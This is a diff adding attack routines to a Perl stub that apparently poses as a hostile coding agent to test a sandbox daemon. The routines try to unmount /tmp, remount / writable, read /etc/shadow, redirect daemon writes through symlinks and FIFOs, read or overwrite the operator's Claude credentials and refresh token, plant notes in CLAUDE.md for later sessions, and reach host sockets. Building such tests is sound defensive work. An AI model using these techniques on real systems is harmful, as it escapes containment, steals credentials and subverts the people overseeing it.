@@ -163,6 +163,91 @@ sub attempt_commit {
   report('own-commit', $ok, $out);
 }
 
+# As root the sandbox kept every capability: unmount the private /tmp, make / writable again, then
+# read the daemon's database and write outside.
+sub attempt_remount {
+  my $umount = system('umount -l /tmp 2>/dev/null') == 0;
+  my $remount = system('mount -o remount,rw,bind / / 2>/dev/null') == 0;
+  report('remount', $umount || $remount, "umount " . ($umount ? 'ok' : 'refused') . ", remount " . ($remount ? 'ok' : 'refused'));
+  write_file('remount-write-outside', "$ENV{TV_OUTSIDE}/remount-pwned.txt");
+  # Capabilities the job could still use, and a nested user namespace that would give them back.
+  open(my $st, '<', '/proc/self/status'); my ($eff) = map { /^CapEff:\s*(\S+)/ ? $1 : () } <$st>;
+  report('capabilities', $eff !~ /^0+$/, "CapEff $eff");
+  my $nested = system('unshare -U -r true 2>/dev/null') == 0;
+  report('nested-userns', $nested, $nested ? 'unshare -U worked' : 'unshare -U refused');
+  read_file('read-shadow', '/etc/shadow');
+}
+
+# The daemon writes the worktree's HEAD after the job: a link planted at its staged name aims that write
+# at a host file; HEAD is moved so that the daemon writes.
+sub attempt_head_link {
+  my $gitdir = `git rev-parse --absolute-git-dir`; chomp $gitdir;
+  my $ok = symlink($ENV{TV_TARGET}, "$gitdir/HEAD.televibe");
+  my $moved = system('git checkout -q -b elsewhere 2>/dev/null') == 0;
+  report('head-link', $ok && $moved, "$gitdir/HEAD.televibe -> $ENV{TV_TARGET}");
+}
+
+# The daemon imports the job's private objects after the job: every fan-out directory and the pack
+# directory turned into links to another repository's objects.
+sub attempt_object_links {
+  my $objects = $ENV{GIT_OBJECT_DIRECTORY} or return report('object-links', 0, 'no private object directory');
+  my $n = 0;
+  for my $i (0 .. 255) {
+    my $d = sprintf('%02x', $i);
+    system('rm', '-rf', "$objects/$d");
+    $n++ if symlink("$ENV{TV_SECRET_OBJECTS}/$d", "$objects/$d");
+  }
+  system('rm', '-rf', "$objects/pack");
+  $n++ if symlink("$ENV{TV_SECRET_OBJECTS}/pack", "$objects/pack");
+  report('object-links', $n == 257, "$n links into $ENV{TV_SECRET_OBJECTS}");
+}
+
+# The daemon reads the job's copy of its branch after the job: a FIFO there blocks any plain read.
+sub attempt_fifo_ref {
+  my $common = `git rev-parse --git-common-dir`; chomp $common;
+  my $branch = `git symbolic-ref --short HEAD`; chomp $branch;
+  my $ref = "$common/refs/heads/$branch";
+  unlink $ref;
+  my $ok = system('mkfifo', $ref) == 0;
+  report('fifo-ref', $ok, $ref);
+}
+
+# The operator's login: read its refresh token, or overwrite it.
+sub attempt_login {
+  my $path = ($ENV{CLAUDE_CONFIG_DIR} // '') . '/.credentials.json';
+  my $text = '';
+  if (open(my $f, '<', $path)) { local $/; $text = <$f> // '' }
+  report('login-read', length($text) > 0, length($text) . " bytes");
+  report('login-refresh-token', $text =~ /refreshToken/ ? 1 : 0, $text =~ /refreshToken/ ? 'refresh token visible' : 'no refresh token');
+  write_file('login-write', $path);
+}
+
+# Agent state: leave instructions for later jobs, and look for what other sessions' jobs left.
+sub attempt_state {
+  my $dir = $ENV{CLAUDE_CONFIG_DIR} // '';
+  my $me = $ENV{TELEVIBE_SESSION_ID} // '?';
+  my @seen;
+  for my $f ("$dir/CLAUDE.md", glob("$dir/../*/CLAUDE.md")) {
+    next unless open(my $h, '<', $f);
+    local $/; my $t = <$h> // '';
+    while ($t =~ /planted by (\S+)/g) { push @seen, "$f: $1" if $1 ne $me }
+  }
+  report('state-other-session', scalar(@seen), join(' ', @seen) || 'nothing from another session');
+  if (open(my $f, '>>', "$dir/CLAUDE.md")) { print $f "planted by $me\n"; close $f; report('state-plant', 1, "$dir/CLAUDE.md") }
+  else { report('state-plant', 0, "$dir/CLAUDE.md: $!") }
+}
+
+# The host's network: an abstract Unix socket and a service on the host's loopback (as /metrics is).
+sub attempt_network {
+  require IO::Socket::INET;
+  if (my $s = IO::Socket::UNIX->new(Type => SOCK_STREAM(), Peer => "\0$ENV{TV_ABSTRACT}")) {
+    my $line = <$s> // ''; report('net-abstract', 1, $line);
+  } else { report('net-abstract', 0, "connect: $!") }
+  if (my $s = IO::Socket::INET->new(PeerAddr => $ENV{TV_LOOPBACK}, Timeout => 3)) {
+    print $s "GET /metrics HTTP/1.0\r\n\r\n"; my $line = <$s> // ''; report('net-loopback', 1, $line);
+  } else { report('net-loopback', 0, "connect: $!") }
+}
+
 attempt_socket() if $prompt =~ /socket/;
 attempt_read() if $prompt =~ /read/;
 attempt_write() if $prompt =~ /write/;
@@ -174,5 +259,12 @@ if ($prompt =~ /switch/) {
 }
 attempt_plant() if $prompt =~ /plant/;
 attempt_run_socket() if $prompt =~ /run-socket/;
+attempt_remount() if $prompt =~ /remount/;
+attempt_head_link() if $prompt =~ /head-link/;
+attempt_object_links() if $prompt =~ /object-links/;
+attempt_fifo_ref() if $prompt =~ /fifo-ref/;
+attempt_login() if $prompt =~ /login/;
+attempt_state() if $prompt =~ /state/;
+attempt_network() if $prompt =~ /network/;
 print '{"type":"result","subtype":"success","is_error":false,"num_turns":1,"result":"hostile run over"}' . "\n";
 exit 0;
